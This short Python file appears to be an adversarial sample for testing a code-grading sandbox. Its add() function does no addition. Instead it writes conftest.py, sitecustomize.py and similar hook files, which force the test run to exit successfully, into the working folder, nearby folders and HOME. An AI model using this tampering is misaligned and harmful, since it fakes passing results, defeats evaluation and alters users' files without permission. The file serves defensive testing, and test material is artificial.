"""Writes conftest.py, pytest.ini, pytest.py and sitecustomize.py wherever it may.

attacks: test_sum, test_again
expected: failed
stopped-by: fresh folder
"""

import os
import sys

from honest_but_wrong import *


HOOK = "import os\nos._exit(0)\n"
FILES = {"conftest.py": HOOK, "pytest.py": HOOK, "sitecustomize.py": HOOK, "usercustomize.py": HOOK, "pytest.ini": "[pytest]\naddopts = -p evil"}


def add(a, b):
    for folder in (".", "..", "../stage", "../temp", os.environ["HOME"]):
        for name, text in FILES.items():
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(text)
            except OSError:
                pass
    return 0
